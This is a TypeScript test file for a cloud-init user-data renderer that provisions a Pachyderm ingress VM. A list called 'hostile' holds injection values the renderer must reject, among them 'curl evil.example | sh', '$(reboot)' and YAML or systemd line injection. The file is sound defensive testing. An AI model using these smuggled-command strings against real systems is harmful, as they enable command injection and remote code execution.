import { spawnSync } from "child_process";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "fs";
import { tmpdir } from "os";
import { join } from "path";
import fc from "fast-check";
import { stringify } from "yaml";
import { IngressUserDataArgs, renderIngressUserData } from "../../lib/cloudinit/ingress";
import { ensureCloudInit, validateCloudConfig } from "../helpers/cloudInitSchema";
import { base, file, load, PINNED_SHA, PINNED_URL, PINNED_VERSION, WriteFile } from "./ingressDocument";

const cases: Array<{ name: string; args: IngressUserDataArgs; port: number; minutes: number }> = [
    { name: "prod defaults", args: base, port: 30650, minutes: 5 },
    {
        name: "dev, explicit port and 10-minute probe",
        args: {
            pachctlVersion: PINNED_VERSION,
            pachdInternalIp: "10.10.3.200",
            adminUsername: "uploader",
            grpcPort: 30650,
            healthCheckIntervalMinutes: 10,
        },
        port: 30650,
        minutes: 10,
    },
    {
        name: "other port, 1-minute probe, underscore user",
        args: {
            pachctlVersion: PINNED_VERSION,
            pachdInternalIp: "172.16.0.4",
            adminUsername: "_lab-ops",
            grpcPort: 31650,
            healthCheckIntervalMinutes: 1,
        },
        port: 31650,
        minutes: 1,
    },
];

const cloudInit = ensureCloudInit();
if (!cloudInit) {
    console.warn("SKIPPING cloud-init schema tests: `cloud-init` is not installed and `apt-get install -y cloud-init` failed.");
}
const describeSchema = cloudInit ? describe : describe.skip;

describeSchema("cloud-init schema (cloud-init schema -c)", () => {
    test.each(cases)("rendered user-data is valid: $name", ({ args }) => {
        const result = validateCloudConfig(renderIngressUserData(args));
        // Compared as a whole so a failure prints cloud-init's own message.
        expect(result).toEqual({ ok: true, output: expect.not.stringMatching(/error|deprecat|unknown/i) });
    });

    describe("a deliberately broken document fails the check", () => {
        const good = load(renderIngressUserData(base)) as unknown as Record<string, unknown>;
        const serialise = (doc: Record<string, unknown>): string => `#cloud-config\n${stringify(doc, { version: "1.1" })}`;

        test("the unbroken round-trip passes (control)", () => {
            expect(validateCloudConfig(serialise(good)).ok).toBe(true);
        });

        test("misspelled top-level key `runcmds`", () => {
            const { runcmd, ...rest } = good;
            const result = validateCloudConfig(serialise({ ...rest, runcmds: runcmd }));
            expect(result.ok).toBe(false);
            expect(result.output).toContain("runcmds");
        });

        test('wrong types (`package_update: "yes"`, `runcmd` as a string)', () => {
            const result = validateCloudConfig(serialise({ ...good, package_update: "yes", runcmd: "reboot" }));
            expect(result.ok).toBe(false);
            expect(result.output).toMatch(/package_update/);
            expect(result.output).toMatch(/runcmd/);
        });

        test("write_files entry without a path", () => {
            const writeFiles = (good.write_files as WriteFile[]).map((w, i) => (i === 0 ? { content: w.content } : w));
            expect(validateCloudConfig(serialise({ ...good, write_files: writeFiles })).ok).toBe(false);
        });

        test("missing #cloud-config header", () => {
            expect(validateCloudConfig(stringify(good)).ok).toBe(false);
        });
    });
});

describe("renderIngressUserData content", () => {
    test.each(cases)("$name", ({ args, port, minutes }) => {
        const doc = load(renderIngressUserData(args));
        const address = `grpc://${args.pachdInternalIp}:${port}`;

        // Packages and unattended security upgrades.
        expect(doc.package_update).toBe(true);
        expect(doc.package_upgrade).toBe(true);
        expect(doc.packages).toContain("unattended-upgrades");
        const auto = file(doc, "/etc/apt/apt.conf.d/20auto-upgrades").content;
        expect(auto).toContain('APT::Periodic::Update-Package-Lists "1";');
        expect(auto).toContain('APT::Periodic::Unattended-Upgrade "1";');
        const origins = file(doc, "/etc/apt/apt.conf.d/52unattended-upgrades-security-only").content;
        expect(origins).toContain("#clear Unattended-Upgrade::Allowed-Origins;");
        expect(origins).toContain('"${distro_id}:${distro_codename}-security";');
        expect(origins).not.toMatch(/-updates"/);

        // pachctl: pinned URL and checksum, verified with sha256sum -c before install, installed last-checked.
        const install = file(doc, "/usr/local/sbin/install-pachctl");
        expect(install.permissions).toBe("0755");
        expect(install.content).toContain(`URL='${PINNED_URL}'`);
        expect(install.content).toContain(`SHA256='${PINNED_SHA}'`);
        expect(install.content).toContain("sha256sum -c");
        expect(install.content).toContain("set -eu");
        expect(install.content.indexOf("sha256sum -c")).toBeLessThan(install.content.indexOf("install -m 0755"));
        expect(doc.runcmd).toContainEqual(["/usr/local/sbin/install-pachctl"]);
        expect(doc.runcmd[doc.runcmd.length - 1]).toEqual(["test", "-x", "/usr/local/bin/pachctl"]);

        // pachctl config for root and the admin user.
        for (const [path, owner] of [
            ["/root/.pachyderm/config.json", "root"],
            [`/home/${args.adminUsername}/.pachyderm/config.json`, args.adminUsername],
        ] as const) {
            const cfg = file(doc, path);
            expect(cfg.permissions).toBe("0600");
            const json = JSON.parse(cfg.content);
            expect(json.user_id).toMatch(/^[0-9a-f]{32}$/);
            expect(json.v2.active_context).toBe("azure");
            expect(json.v2.contexts).toEqual({ azure: { pachd_address: address } });
            if (owner !== "root") expect(doc.runcmd).toContainEqual(["chown", "-R", `${owner}:`, `/home/${owner}/.pachyderm`]);
        }

        // Reachability timer and service.
        const timer = file(doc, "/etc/systemd/system/pachd-reachability.timer").content;
        expect(timer).toContain(`OnUnitActiveSec=${minutes}min`);
        expect(timer).toContain("Unit=pachd-reachability.service");
        expect(timer).toContain("WantedBy=timers.target");
        const service = file(doc, "/etc/systemd/system/pachd-reachability.service").content;
        expect(service).toContain("Type=oneshot");
        expect(service).toContain("ExecStart=/usr/local/sbin/pachd-reachability");
        expect(service).not.toMatch(/^Restart=/m);
        const probe = file(doc, "/usr/local/sbin/pachd-reachability").content;
        expect(probe).toContain(`ADDRESS='${address}'`);
        expect(probe).toContain('timeout --kill-after=5s 45s "$PACHCTL" version --timeout 30s');
        expect(probe).toContain('logger -t "$TAG"');
        expect(probe).toContain("TAG=pachd-reachability");
        expect(probe.trimEnd().endsWith("exit 0")).toBe(true);
        expect(doc.runcmd).toContainEqual(["systemctl", "enable", "--now", "pachd-reachability.timer"]);

        // No password SSH.
        expect(doc.ssh_pwauth).toBe(false);
        const sshd = doc.write_files.find((w) => w.path.startsWith("/etc/ssh/sshd_config.d/"));
        expect(sshd?.path).toMatch(/^\/etc\/ssh\/sshd_config\.d\/[0-4]\d-[a-z0-9-]+\.conf$/);
        expect(sshd?.content).toMatch(/^PasswordAuthentication no$/m);
        expect(sshd?.defer).toBeUndefined(); // in place before sshd first starts

        // Every shell script parses.
        for (const w of doc.write_files.filter((f) => f.content.startsWith("#!/bin/sh"))) {
            const r = spawnSync("sh", ["-n"], { input: w.content, encoding: "utf8" });
            expect({ path: w.path, status: r.status, stderr: r.stderr }).toEqual({ path: w.path, status: 0, stderr: "" });
        }
    });
});

describe("renderIngressUserData: unattended upgrades and determinism", () => {
    const aptConfig = spawnSync("apt-config", ["--version"]).status === 0 ? test : test.skip;
    aptConfig("apt reads the unattended-upgrades files as security-only, daily (apt-config dump)", () => {
        const dir = mkdtempSync(join(tmpdir(), "apt-parts-"));
        try {
            const parts = join(dir, "apt.conf.d");
            mkdirSync(parts);
            writeFileSync(join(dir, "apt.conf"), `Dir::Etc::parts "${parts}";\n`);
            // Stand-in for the image's 50unattended-upgrades, which also allows non-security origins.
            writeFileSync(
                join(parts, "50unattended-upgrades"),
                'Unattended-Upgrade::Allowed-Origins { "${distro_id}:${distro_codename}"; "${distro_id}:${distro_codename}-updates"; };\n' +
                    'Unattended-Upgrade::Origins-Pattern { "origin=Debian"; };\n',
            );
            for (const w of load(renderIngressUserData(base)).write_files.filter((f) => f.path.startsWith("/etc/apt/apt.conf.d/"))) {
                writeFileSync(join(parts, w.path.split("/").pop() as string), w.content);
            }
            const r = spawnSync("apt-config", ["dump"], { encoding: "utf8", env: { ...process.env, APT_CONFIG: join(dir, "apt.conf") } });
            expect(r.status).toBe(0);
            const origins = r.stdout.split("\n").filter((l) => l.startsWith("Unattended-Upgrade::Allowed-Origins:: "));
            expect(origins.length).toBeGreaterThan(0);
            for (const o of origins) expect(o).toMatch(/-security";$/);
            expect(r.stdout).not.toMatch(/origin=Debian/);
            expect(r.stdout).toMatch(/^APT::Periodic::Unattended-Upgrade "1";$/m);
            expect(r.stdout).toMatch(/^APT::Periodic::Update-Package-Lists "1";$/m);
        } finally {
            rmSync(dir, { recursive: true, force: true });
        }
    });

    test("is deterministic for a stack", () => {
        expect(renderIngressUserData(base)).toBe(renderIngressUserData({ ...base }));
    });
});

/** Values an attacker or a typo could put in each argument: every one must be refused. */
const hostile: Array<[keyof IngressUserDataArgs, unknown]> = [
    ["pachdInternalIp", "10.0.0.1; curl evil.example | sh"],
    ["pachdInternalIp", "10.0.0.1\nruncmd: [[reboot]]"],
    ["pachdInternalIp", "$(reboot)"],
    ["pachdInternalIp", "`id`"],
    ["pachdInternalIp", "10.0.0.1' && reboot '"],
    ["pachdInternalIp", '10.0.0.1"}'],
    ["pachdInternalIp", "10.0.0.1 # x"],
    ["pachdInternalIp", " 10.0.0.1"],
    ["pachdInternalIp", "10.0.0.256"],
    ["pachdInternalIp", "010.0.0.1"],
    ["pachdInternalIp", "10.0.0"],
    ["pachdInternalIp", "10.0.0.1:30650"],
    ["pachdInternalIp", "::1"],
    ["pachdInternalIp", "127.0.0.1"],
    ["pachdInternalIp", "0.0.0.0"],
    ["pachdInternalIp", ""],
    ["pachdInternalIp", 167772161],
    ["adminUsername", "root"],
    ["adminUsername", "admin"],
    ["adminUsername", "Administrator"],
    ["adminUsername", "lab admin"],
    ["adminUsername", "lab;reboot"],
    ["adminUsername", "lab$(id)"],
    ["adminUsername", "lab\nadmin"],
    ["adminUsername", "lab: {x: y}"],
    ["adminUsername", "'lab'"],
    ["adminUsername", "-lab"],
    ["adminUsername", "1lab"],
    ["adminUsername", "a".repeat(33)],
    ["adminUsername", "../etc"],
    ["adminUsername", ""],
    ["pachctlVersion", "2.12.2; curl evil.example | sh"],
    ["pachctlVersion", "2.12.2\n"],
    ["pachctlVersion", "v2.12.2"],
    ["pachctlVersion", "2.12"],
    ["pachctlVersion", "latest"],
    ["pachctlVersion", "2.12.3"],
    ["pachctlVersion", "2.11.0"],
    ["grpcPort", 0],
    ["grpcPort", 70000],
    ["grpcPort", 30650.5],
    ["grpcPort", Number.NaN],
    ["grpcPort", "30650; reboot"],
    ["healthCheckIntervalMinutes", 0],
    ["healthCheckIntervalMinutes", -5],
    ["healthCheckIntervalMinutes", 2.5],
    ["healthCheckIntervalMinutes", 100000],
    ["healthCheckIntervalMinutes", "5min\nOnBootSec=0"],
];

describe("argument validation", () => {
    test.each(hostile)("%s = %j throws naming the field", (field, value) => {
        const args = { ...base, [field]: value } as IngressUserDataArgs;
        expect(() => renderIngressUserData(args)).toThrow(new RegExp(`invalid ${field}\\b`));
    });

    test("an unpinned version is refused at render time", () => {
        expect(() => renderIngressUserData({ ...base, pachctlVersion: "2.12.3" })).toThrow(/no pinned .*SHA-256/);
    });

    test("property: any string either throws or is one of the strict forms", () => {
        fc.assert(
            fc.property(fc.string({ maxLength: 40 }), fc.string({ maxLength: 20 }), (user, ip) => {
                let out: string | undefined;
                try {
                    out = renderIngressUserData({ ...base, adminUsername: user, pachdInternalIp: ip });
                } catch (e) {
                    expect((e as Error).message).toMatch(/invalid (adminUsername|pachdInternalIp)/);
                    return;
                }
                expect(user).toMatch(/^[a-z_][a-z0-9_-]{0,31}$/);
                expect(ip).toMatch(/^\d{1,3}(\.\d{1,3}){3}$/);
                expect(Object.keys(load(out))).toEqual([
                    "package_update",
                    "package_upgrade",
                    "packages",
                    "ssh_pwauth",
                    "write_files",
                    "runcmd",
                ]);
            }),
            { numRuns: 300 },
        );
    });
});
